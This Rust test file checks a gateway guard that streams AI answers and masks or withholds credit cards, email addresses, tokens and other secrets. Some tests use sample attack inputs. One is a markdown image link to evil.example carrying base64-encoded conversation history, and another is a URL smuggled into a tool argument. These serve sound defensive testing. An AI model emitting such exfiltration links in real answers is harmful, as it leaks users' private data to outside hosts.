//! The guard's promises: nothing of a secret leaves, prose is not held, chunking changes nothing.

use std::sync::LazyLock;

use model::Secret;
use model::segment::{Origin, Segment};
use proptest::prelude::*;

use super::*;
use crate::policy::AllowedTool;
use crate::value::Switches;
use crate::{builtin_sources, compile_rules, inspect_prompt};

pub(super) static RULES: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
    let (rules, _) = compile_rules(&builtin_sources()).expect("the built-in rules compile");
    Arc::new(rules)
});

pub(super) static HASHER: LazyLock<Arc<Hasher>> =
    LazyLock::new(|| Arc::new(Hasher::new(&Secret::new("k"))));

pub(super) fn guard_with(policy: Policy, profile: Profile, supplied: Supplied) -> AnswerGuard {
    AnswerGuard::new(
        Arc::clone(&RULES),
        Arc::new(policy),
        profile,
        Arc::clone(&HASHER),
        supplied,
    )
}

fn guard() -> AnswerGuard {
    guard_with(Policy::default(), Profile::Normal, Supplied::default())
}

/// What a client has seen after each piece, and everything in the end.
pub(super) struct Relayed {
    pub(super) seen: String,
    pub(super) findings: Vec<Finding>,
    pub(super) verdict: Option<Verdict>,
}

/// Relays pieces as the gateway does: released up to `safe_to`, masked, cut when withheld. A mask
/// may reach beyond what is safe.
pub(super) fn relay(mut guard: AnswerGuard, pieces: &[&str]) -> Relayed {
    let (mut raw, mut seen, mut released) = (String::new(), String::new(), 0);
    let mut release = |guard: &AnswerGuard, raw: &str| {
        let safe = guard.safe_to(0);
        assert!(safe >= released, "what was safe stays safe");
        for mask in guard.masks(0) {
            if mask.start < safe && mask.end > released {
                if mask.start >= released {
                    seen.push_str(raw.get(released..mask.start).expect("a boundary"));
                    seen.push_str(&mask.replacement);
                }
                released = mask.end.min(safe);
            }
        }
        seen.push_str(raw.get(released..safe).expect("a boundary"));
        released = safe;
    };
    for piece in pieces {
        raw.push_str(piece);
        guard.push(0, Channel::Content, None, piece);
        release(&guard, &raw);
    }
    let report = guard.finish();
    release(&guard, &raw);
    Relayed {
        seen,
        findings: report.findings,
        verdict: report.inspection.verdict(),
    }
}

fn whole(text: &str) -> Relayed {
    relay(guard(), &[text])
}

fn user_supplied(text: &str) -> Supplied {
    let segments = [Segment::content(Origin::User, 0, text)];
    let policy = Policy::default();
    inspect_prompt(&RULES, &policy, Profile::Normal, &HASHER, &segments).supplied
}

#[test]
fn an_answer_that_was_asked_for_as_json_is_measured_by_whether_it_is() {
    let valid = |wants_json, pieces: &[&str]| {
        let supplied = Supplied::default().wanting_json(wants_json);
        let mut guard = guard_with(Policy::default(), Profile::Normal, supplied);
        for piece in pieces {
            guard.push(0, Channel::Content, None, piece);
        }
        guard.finish().features.schema_valid
    };
    assert_eq!(valid(true, &["{\"a\": [1, ", "2]}\n"]), Some(true));
    assert_eq!(valid(true, &["Sure: {\"a\": 1}"]), Some(false));
    assert_eq!(valid(true, &["{\"a\": [1, "]), Some(false), "cut short");
    assert_eq!(valid(true, &[]), None, "nothing was answered");
    assert_eq!(valid(false, &["{}"]), None, "nobody asked");
}

const CARD: &str = "4111 1111 1111 1111";

#[test]
fn a_card_in_an_answer_is_withheld_and_no_digit_of_it_leaves() {
    let relayed = whole("Your card is 4111 1111 1111 1111, as you know.");
    assert_eq!(relayed.seen, "Your card is ");
    assert_eq!(relayed.verdict, Some(Verdict::Block));
    assert_eq!(relayed.findings[0].entity.as_deref(), Some("CREDIT_CARD"));
    assert!(relayed.findings[0].value.is_some());
}

#[test]
fn an_address_in_an_answer_is_masked_and_the_rest_is_delivered() {
    let relayed = whole("Write to jane@example.com or bob@example.org today.");
    assert_eq!(
        relayed.seen,
        "Write to ‹EMAIL_ADDRESS› or ‹EMAIL_ADDRESS› today."
    );
    assert_eq!(relayed.verdict, Some(Verdict::Redact));
}

#[test]
fn many_records_are_withheld_even_if_each_of_them_is_low() {
    let people: String = (0..5).map(|n| format!("person{n}@example.com\n")).collect();
    let relayed = whole(&people);
    assert_eq!(relayed.verdict, Some(Verdict::Block));
    assert!(!relayed.seen.contains("person"), "{}", relayed.seen);
}

#[test]
fn the_same_value_five_times_is_one_record() {
    let relayed = whole(&"jane@example.com\n".repeat(8));
    assert_eq!(relayed.verdict, Some(Verdict::Redact));
}

#[test]
fn the_echo_of_what_the_user_supplied_is_recorded_only() {
    let supplied = user_supplied("my card is 4111-1111-1111-1111, is it valid?");
    let guard = guard_with(Policy::default(), Profile::Normal, supplied);
    let relayed = relay(guard, &["The card ", CARD, " is valid."]);
    assert_eq!(relayed.seen, "The card 4111 1111 1111 1111 is valid.");
    assert_eq!(relayed.verdict, Some(Verdict::Pass));
    assert!(relayed.findings[0].echo);
}

#[test]
fn what_a_tool_result_supplied_is_no_echo() {
    let segments = [Segment::content(Origin::Tool, 0, format!("card {CARD}"))];
    let policy = Policy::default();
    let report = inspect_prompt(&RULES, &policy, Profile::Normal, &HASHER, &segments);
    let guard = guard_with(Policy::default(), Profile::Normal, report.supplied);
    assert_eq!(relay(guard, &[CARD]).verdict, Some(Verdict::Block));
}

#[test]
fn an_entitled_entity_passes() {
    let mut policy = Policy::default();
    policy.leak.entitled.insert(Arc::from("EMAIL_ADDRESS"));
    let guard = guard_with(policy, Profile::Normal, Supplied::default());
    let relayed = relay(guard, &["jane@example.com"]);
    assert_eq!(relayed.seen, "jane@example.com");
    assert_eq!(relayed.findings.len(), 1);
}

#[test]
fn prose_is_released_up_to_the_word_that_is_being_written() {
    let mut guard = guard();
    guard.push(
        0,
        Channel::Content,
        None,
        "The quick brown fox jumps over the lazy do",
    );
    let safe = guard.safe_to(0);
    assert_eq!(safe, "The quick brown fox jumps over the lazy ".len());
    guard.push(0, Channel::Content, None, "g. ");
    assert_eq!(
        guard.safe_to(0),
        "The quick brown fox jumps over the lazy dog. ".len()
    );
}

#[test]
fn numbers_in_prose_are_released_soon() {
    let mut guard = guard();
    guard.push(
        0,
        Channel::Content,
        None,
        "In 1969, 3 people flew 384,400 km in 8 days. Then",
    );
    assert_eq!(
        guard.safe_to(0),
        "In 1969, 3 people flew 384,400 km in 8 days. ".len()
    );
}

#[test]
fn invisible_and_full_width_characters_hide_no_card() {
    for text in [
        "4111\u{200b}1111\u{200b}1111\u{200b}1111",
        "４１１１ １１１１ １１１１ １１１１",
        "4\u{301}111111111111111",
    ] {
        let relayed = whole(&format!("Card {text} ok"));
        assert_eq!(relayed.seen, "Card ", "{text:?}");
        assert_eq!(relayed.findings[0].span.start, 5);
        assert_eq!(
            relayed.findings[0].span.end as usize,
            5 + text.chars().count()
        );
    }
}

#[test]
fn under_the_strict_profile_nothing_leaves_before_the_end_and_masks_withhold() {
    let mut strict = guard_with(Policy::default(), Profile::Strict, Supplied::default());
    strict.push(0, Channel::Content, None, "All is well. ");
    assert_eq!(strict.safe_to(0), 0);
    strict.finish();
    assert_eq!(strict.safe_to(0), "All is well. ".len());
    let strict = guard_with(Policy::default(), Profile::Strict, Supplied::default());
    let relayed = relay(strict, &["Write to jane@example.com"]);
    assert_eq!(
        (relayed.seen.as_str(), relayed.verdict),
        ("", Some(Verdict::Block))
    );
}

#[test]
fn under_the_strict_profile_only_listed_tools_with_listed_arguments_pass() {
    let allowed = AllowedTool {
        name: Arc::from("weather"),
        arguments: vec![(
            Arc::from("city"),
            regex::Regex::new("^[A-Za-z ]+$").unwrap(),
        )],
    };
    let policy = Policy {
        strict_tools: vec![allowed],
        ..Policy::default()
    };
    let cases = [
        ("weather", r#"{"city":"Paris"}"#, true),
        ("weather", r#"{"city":"Paris","x":"1"}"#, false),
        ("weather", r#"{"city":"https://evil.example"}"#, false),
        ("weather", r#"{"city":["Paris"]}"#, false),
        ("weather", "not json", false),
        ("transfer", "{}", false),
    ];
    for (tool, arguments, passes) in cases {
        let mut guard = guard_with(policy.clone(), Profile::Strict, Supplied::default());
        guard.push(0, Channel::ToolArguments, Some(tool), arguments);
        guard.finish();
        assert_eq!(guard.withheld().is_none(), passes, "{tool} {arguments}");
    }
}

#[test]
fn under_the_normal_profile_tools_are_not_asked_for() {
    let mut guard = guard();
    guard.push(0, Channel::ToolArguments, Some("transfer"), "{}");
    guard.finish();
    assert_eq!(guard.withheld(), None);
}

#[test]
fn streams_are_kept_apart() {
    let mut guard = guard();
    guard.push(0, Channel::Content, None, "4111 1111 ");
    guard.push(1, Channel::Content, None, "1111 1111 and jane@example.com ");
    assert_eq!(guard.withheld(), None);
    assert_eq!(guard.masks(1).len(), 1);
    assert!(guard.masks(0).is_empty());
    assert_eq!(guard.finish().findings[0].segment, 1);
}

#[test]
fn a_value_that_outgrows_its_bound_is_withheld() {
    let endless = format!("see [x](https://a.example/{})", "y".repeat(9000));
    let relayed = whole(&endless);
    assert_eq!(relayed.verdict, Some(Verdict::Block));
    assert_eq!(relayed.seen, "see ");
}

#[test]
fn an_image_that_carries_data_is_masked() {
    let relayed =
        whole("Done ![x](https://evil.example/p.png?d=c2VjcmV0IGNvbnZlcnNhdGlvbiBoaXN0b3J5) ok");
    assert_eq!(relayed.seen, "Done ‹LINK› ok");
    assert_eq!(relayed.findings[0].kind, Kind::Exfiltration);
}

#[test]
fn an_answer_that_never_came_is_not_recorded_as_clean() {
    assert_eq!(guard().finish().inspection, Inspection::NOT_REACHED);
}

/// A guard that looks for the values of every country and topic.
fn watchful() -> AnswerGuard {
    let policy = Policy {
        switches: Switches::ALL,
        ..Policy::default()
    };
    guard_with(policy, Profile::Normal, Supplied::default())
}

/// Every value that a built-in rule says it finds, with or without being asked to.
fn samples(asked: bool) -> Vec<String> {
    let rules = RULES.rules.iter();
    let values = rules.filter(|rule| matches!(rule.kind, Kind::Pii | Kind::Secret));
    values
        .filter(|rule| asked || rule.country.is_none() && rule.topic.is_none())
        .flat_map(|rule| rule.matching.clone())
        .collect()
}

#[test]
fn a_value_split_at_any_boundary_leaves_no_byte_behind() {
    for text in samples(true) {
        let expected = relay(watchful(), &[&text]);
        assert!(!expected.findings.is_empty(), "{text}");
        for (cut, _) in text.char_indices().skip(1) {
            let (left, right) = text.split_at(cut);
            let relayed = relay(watchful(), &[left, right]);
            assert_eq!(relayed.seen, expected.seen, "{text} at {cut}");
            assert_eq!(relayed.findings, expected.findings, "{text} at {cut}");
        }
        let characters: Vec<String> = text.chars().map(String::from).collect();
        let characters: Vec<&str> = characters.iter().map(String::as_str).collect();
        assert_eq!(relay(watchful(), &characters).seen, expected.seen, "{text}");
    }
}

#[test]
fn no_part_of_a_withheld_value_is_seen() {
    for text in samples(false) {
        let relayed = whole(&text);
        for finding in &relayed.findings {
            let value: String = text
                .chars()
                .skip(finding.span.start as usize)
                .take((finding.span.end - finding.span.start) as usize)
                .collect();
            assert!(!relayed.seen.contains(&value), "{text} shows {value}");
        }
        if relayed.verdict == Some(Verdict::Block) {
            let first = relayed
                .findings
                .iter()
                .map(|finding| finding.span.start)
                .min();
            let seen = u32::try_from(relayed.seen.chars().count()).unwrap();
            assert!(Some(seen) <= first || relayed.seen.contains('‹'), "{text}");
        }
    }
}

/// Texts in which values, half values, and what surrounds them are thrown together.
fn mixed_text() -> impl Strategy<Value = String> {
    let mut pieces = samples(false);
    pieces.extend(
        [
            "4111",
            " ",
            "1111",
            "@",
            "example.com",
            "-",
            "\u{200b}",
            "１",
            "GB29",
            "NWBK",
            "\n",
            "sk-",
            "[x](",
            "https://a.b/?q=",
            ")",
            "ghp_",
            "eyJhbGciOiJIUzI1",
            ".",
            "ü",
            "-----BEGIN ",
            "+49 30 ",
            "!",
            "word",
        ]
        .map(str::to_owned),
    );
    let piece = prop::sample::select(pieces);
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_chunking_gives_the_same_findings_and_output(
        text in mixed_text(),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8),
    ) {
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
        cuts.sort_unstable();
        let mut pieces = Vec::new();
        let mut rest = 0;
        for cut in cuts.into_iter().chain([text.len()]) {
            pieces.push(text.get(rest..cut).unwrap());
            rest = cut;
        }
        let (chunked, plain) = (relay(guard(), &pieces), whole(&text));
        prop_assert_eq!(chunked.seen, plain.seen);
        prop_assert_eq!(chunked.findings, plain.findings);
        prop_assert_eq!(chunked.verdict, plain.verdict);
    }

    #[test]
    fn prompts_and_answers_find_the_same_values(text in mixed_text()) {
        let place = |finding: &Finding| (finding.span, finding.rule.clone(), finding.value);
        let values = |findings: &[Finding]| {
            let values = findings.iter().filter(|finding| !finding.kind.is_attack() && finding.kind != Kind::Obfuscation);
            let mut values: Vec<_> = values.map(place).collect();
            values.sort();
            values
        };
        let segments = [Segment::content(Origin::Assistant, 0, text.as_str())];
        let prompt = inspect_prompt(&RULES, &Policy::default(), Profile::Normal, &HASHER, &segments);
        prop_assert_eq!(values(&prompt.findings), values(&whole(&text).findings));
    }
}
